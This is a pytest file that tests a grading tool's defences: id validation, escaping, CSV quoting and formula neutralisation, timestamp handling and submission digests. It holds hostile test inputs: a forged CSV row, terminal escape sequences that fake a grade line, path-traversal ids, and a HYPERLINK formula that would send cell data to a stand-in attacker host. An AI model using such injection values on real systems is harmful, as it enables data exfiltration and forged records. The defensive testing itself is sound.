"""Student ids at the door, and what the course writes from them: the attacks on ids, timestamps and the digest, each
replayed (no grading here: the gradebook, nbgrader's export and the Canvas exporter run for real on the
synthetic course; tests/grading/test_grading_cli.py and tests/grading/test_jobarray.py grade through the same door).

What they protect: an id that is not printable, holds a path separator, begins with '-', '=', '+' or '@', or differs
only in case from another is refused with the reason and only ever printed escaped; a symlinked or unreadable student
folder is refused with the reason, never dropped without a word; every CSV field is quoted and no cell is a live
formula (OWASP's rule), in grades.csv from `nbgrader export` as configured by default and in the Canvas CSV; the
Canvas export skips a case conflict instead of refusing the class; a student's own timestamp.txt never reaches the
course under --submissions; two different submissions never share a digest.
"""
from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from helpers.synthetic import SYNTHETIC_LAB as LAB

from lab_utils import grading
from lab_utils.grading.boundary import ids, inbox
from lab_utils.grading.export import canvas, csvfile
from lab_utils.grading.nbgrader_run import run_nbgrader
from lab_utils.status import Status

FORGED_ROW = "mallory,\n00_synthetic,,,victim,,,,10.0,0.0,10.0,3.0"  # a folder name that forged a grades.csv row
ESCAPES = "eve\x1b[1A\x1b[2K\r   eve: 10 of 10"  # draws a fake grade line over the one before


@pytest.mark.parametrize("student, why", [
    ("a\nb", "control"), (FORGED_ROW, "control"), (ESCAPES, "control"), ("tab\there", "control"),
    ("x/../../y", "path separator"), ("a\\b", "path separator"), (".", "path component"), ("..", "path component"),
    ("-rf", "begins with '-'"), ("=HYPERLINK(1)", "begins with '='"), ("+1", "begins with '+'"),
    ("@SUM(A1)", "begins with '@'"), (" ann", "space"), ("", "empty"), ("x" * 129, "longer than 128"),
    ("ann\u202e", "unprintable"),
])
def test_the_id_rule_refuses_with_the_reason_and_shows_the_id_escaped(student, why):
    reason = ids.problem(student)
    assert reason and why in reason, (student, reason)
    shown = ids.shown(student)
    assert shown == repr(student) and shown.isprintable() and "\n" not in shown and "\x1b" not in shown


def test_valid_ids_pass_as_they_are_and_a_case_pair_is_refused_both_ways():
    for student in ("ann", "Ann.Smith", "a,b", "s_101", "o'neil", "José", "ann-2", "ann=b"):
        assert ids.problem(student) is None and ids.shown(student) == student
    refused = ids.refusals(["ann", "Ann", "bob", "-x"])
    assert set(refused) == {"ann", "Ann", "-x"}, refused
    assert "'Ann'" in refused["ann"] and "'ann'" in refused["Ann"] and "case" in refused["ann"]


def test_the_door_lists_every_refused_folder_with_the_reason(tmp_path):
    base = tmp_path / "inbox"
    for name in ("good", "Bob", "bob", FORGED_ROW, "=1+1", ESCAPES):
        (base / name / LAB).mkdir(parents=True)
    (tmp_path / "elsewhere" / LAB).mkdir(parents=True)
    (base / "linked").symlink_to(tmp_path / "elsewhere")
    (base / "good" / "99_other").symlink_to(tmp_path / "elsewhere" / LAB)
    (base / "stray.txt").write_text("not a student")
    scan = ids.scan(base)
    assert scan.found == {LAB: ["good"]}, scan.found
    refused = {who: why for who, _, why in scan.refused}
    assert set(refused) == {"Bob", "bob", repr(FORGED_ROW), "'=1+1'", repr(ESCAPES), "linked", "good"}, refused
    assert "symbolic link" in refused["linked"] and "case" in refused["bob"] and "control" in refused[repr(ESCAPES)]
    assert ("good", "99_other", "the lab folder is a symbolic link (not followed)") in scan.refused
    assert all(who.isprintable() and "\x1b" not in why for who, _, why in scan.refused)


SYSTEM_PYTHON = "/usr/bin/python3"


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("runuser") or not os.path.exists(SYSTEM_PYTHON),
                    reason="root reads every folder: it needs root to try as another user (runuser)")
def test_an_unreadable_student_folder_is_refused_with_the_reason():
    """As an instructor (not root) meets it: a student folder this user cannot list. The rule's module needs nothing
    but the standard library, so the other user runs a copy of it with the system's Python."""
    import tempfile

    tmp_path = Path(tempfile.mkdtemp(prefix="dtlabs-ids-"))  # pytest's own is private to root
    os.chmod(tmp_path, 0o755)
    shutil.copy(ids.__file__, tmp_path / "id_rule.py")
    base = tmp_path / "inbox"
    (base / "ann" / LAB).mkdir(parents=True)
    (base / "zoe" / LAB).mkdir(parents=True)
    os.chmod(base / "zoe", 0o000)
    code = "import sys, id_rule; s = id_rule.scan(sys.argv[1]); print(s.found); print(s.refused)"
    try:
        run = subprocess.run(["runuser", "-u", "nobody", "--", SYSTEM_PYTHON, "-c", code, str(base)],
                             capture_output=True, text=True, cwd=tmp_path, env={"PATH": os.environ["PATH"],
                                                                                "PYTHONPATH": str(tmp_path)})
    finally:
        shutil.rmtree(tmp_path)
    assert run.returncode == 0, run.stderr
    found, refused = run.stdout.splitlines()
    assert found == f"{{'{LAB}': ['ann']}}", run.stdout
    assert "('zoe', None, 'the student folder cannot be read: Permission denied')" in refused, run.stdout


def _legacy_gradebook(course: Path, students) -> None:
    """Students a gradebook may hold from before the door (or from `nbgrader db student add`)."""
    from nbgrader.api import Gradebook

    with Gradebook(grading.gradebook.db_url(course)) as gb:
        for s in students:
            gb.update_or_create_student(s)


def test_grades_csv_from_nbgraders_own_export_is_quoted_and_formula_safe(synthetic_course, tmp_path):
    """The course's config makes `nbgrader export` (what `dtlabs grade` runs for grades.csv) write with
    GradesCsvExporter: nbgrader's CsvExportPlugin wrote a forged row for the first id and a live formula for the
    second."""
    course = tmp_path / "course"
    shutil.copytree(synthetic_course, course)
    _legacy_gradebook(course, [FORGED_ROW, '=HYPERLINK("http://evil.example/?"&A1,"grades")', "ann"])
    dest = tmp_path / "grades.csv"
    run = run_nbgrader(["export", f"--to={dest}"], course_root=course, timeout=300)
    assert run.returncode == 0, run.output
    text = dest.read_text()
    rows = list(csv.reader(text.splitlines(keepends=True)))
    assert rows[0] == csvfile.COLUMNS and len(rows) == 4, rows
    assert sorted(r[3] for r in rows[1:]) == sorted([FORGED_ROW, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"grades\")",
                                                     "ann"]), rows
    assert all(r[0] == LAB for r in rows[1:]), "no row of a student's making"
    assert all(line.startswith('"') for line in text.splitlines() if not line.startswith("00_synthetic,")), text
    assert grading.read_grades_csv(dest)[0].keys() == set(csvfile.COLUMNS)


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("ann", "ann"), (None, ""), (3.0, "3.0"), ("a,b\nc", "a,b\nc"),
])
def test_every_cell_is_quoted_and_none_is_a_formula(tmp_path, value, written):
    dest = tmp_path / "x.csv"
    csvfile.write(dest, [["h"], [value]])
    raw = dest.read_text()
    assert raw.startswith('"h"') and raw.count('"') >= 4, raw
    assert list(csv.reader(open(dest, newline="")))[1] == [written]


ROSTER = (
    "Student,ID,SIS User ID,SIS Login ID,Section\n"
    "Ann One,101,s101,Ann,S1\n"
    "Ann Two,102,s102,ann2,S1\n"
    "Bob,103,s103,bob,S1\n"
    "=HYPERLINK(1),104,s104,cat,S1\n"
)


def test_canvas_export_skips_a_case_conflict_and_exports_the_rest(synthetic_course, tmp_path, capsys):
    """The gradebook holds 'Ann' and 'ann' (one Canvas login): they are skipped and named, bob is exported, not the whole
    class refused. A formula in a roster cell comes back as text."""
    course = tmp_path / "course"
    shutil.copytree(synthetic_course, course)
    _legacy_gradebook(course, ["Ann", "ann", "bob"])
    roster, out = tmp_path / "roster.csv", tmp_path / "canvas.csv"
    roster.write_text(ROSTER)
    assert canvas.main(roster, out, course_root=course) is Status.DONE, capsys.readouterr().err
    err = capsys.readouterr().err
    assert "SKIPPED, not in canvas.csv: the gradebook's student Ann (the student id differs only in case from " \
           "'ann'" in err and "student ann (the student id differs only in case from 'Ann'" in err, err
    rows = list(csv.reader(open(out, newline="")))
    logins = [r[3] for r in rows[2:]]
    assert logins == ["Ann", "ann2", "bob", "cat"], rows
    assert rows[2][5] == "" and rows[5][0] == "'=HYPERLINK(1)", rows
    assert "in the roster but not in the gradebook" in err and "Ann One" not in err.split("gradebook (their")[-1]
    assert all(line.startswith('"') for line in out.read_text().splitlines())


def test_a_students_own_timestamp_never_reaches_the_course(tmp_path):
    """Under --submissions the submission time is the instructor's (--timestamps), never the student's file."""
    src, submitted = tmp_path / "inbox", tmp_path / "submitted"
    for student in ("ann", "bob"):
        (src / student / LAB).mkdir(parents=True)
        (src / student / LAB / f"{LAB}.ipynb").write_text("{}")
        (src / student / LAB / "timestamp.txt").write_text("2000-01-01 00:00:00 UTC")  # "I was early"
    notes, refused = inbox.collect(src, submitted, None)
    assert not refused and not (submitted / "ann" / LAB / "timestamp.txt").exists()
    assert any("ann/00_synthetic: its own timestamp.txt is ignored" in n for n in notes), notes
    times = tmp_path / "times.csv"
    times.write_text("student,timestamp\nann,2030-01-11 13:00:00 UTC\n")
    notes, _ = inbox.collect(src, submitted, inbox.read_timestamps(times))
    assert (submitted / "ann" / LAB / "timestamp.txt").read_text() == "2030-01-11 13:00:00 UTC"
    assert not (submitted / "bob" / LAB / "timestamp.txt").exists()
    assert any("bob/00_synthetic: no submission time in --timestamps" in n for n in notes), notes


def test_timestamps_that_are_not_times_are_refused_with_the_row(tmp_path):
    bad = tmp_path / "times.csv"
    bad.write_text("student,timestamp\nann,2030-01-11 13:00:00 UTC\nbob,yesterday\n")
    with pytest.raises(ValueError, match="row 3: 'yesterday'"):
        inbox.read_timestamps(bad)
    bad.write_text("who,when\nann,2030-01-11\n")
    with pytest.raises(ValueError, match="no column 'student' and 'timestamp'"):
        inbox.read_timestamps(bad)


def test_two_different_submissions_never_share_a_digest(synthetic_course, tmp_path):
    """Names and contents are framed in the digest: hashed end to end, {a: '', b: '1'} and {a: 'b\\0' '1'} would
    give one stream, and a resubmission could keep the old grade."""
    course = tmp_path / "course"
    (course / "solutions").mkdir(parents=True)
    shutil.copytree(synthetic_course / "solutions" / LAB, course / "solutions" / LAB)
    one = course / "grader" / "work" / "submitted" / "one" / LAB
    two = course / "grader" / "work" / "submitted" / "two" / LAB
    one.mkdir(parents=True)
    two.mkdir(parents=True)
    (one / "a").write_bytes(b"")
    (one / "b").write_bytes(b"1")
    (two / "a").write_bytes(b"b\x001")
    assert inbox.submission_digest(course, LAB, "one") != inbox.submission_digest(course, LAB, "two")
    (two / "a").write_bytes(b"")
    (two / "b").write_bytes(b"1")
    assert inbox.submission_digest(course, LAB, "one") == inbox.submission_digest(course, LAB, "two")
